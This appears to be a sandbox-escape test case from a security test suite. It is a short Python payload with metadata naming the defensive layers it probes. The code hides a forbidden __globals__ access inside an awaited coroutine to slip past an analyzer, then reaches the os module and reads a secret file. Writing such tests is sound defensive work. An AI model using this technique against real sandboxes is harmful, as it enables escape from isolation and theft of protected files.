# class: object graph walk
# technique: a forbidden attribute in what a coroutine waits for
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
async def give(x):
    return x
async def walk():
    return await give(quit.__init__.__globals__)
try:
    walk().send(None)
except StopIteration as end:
    g = end.value
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
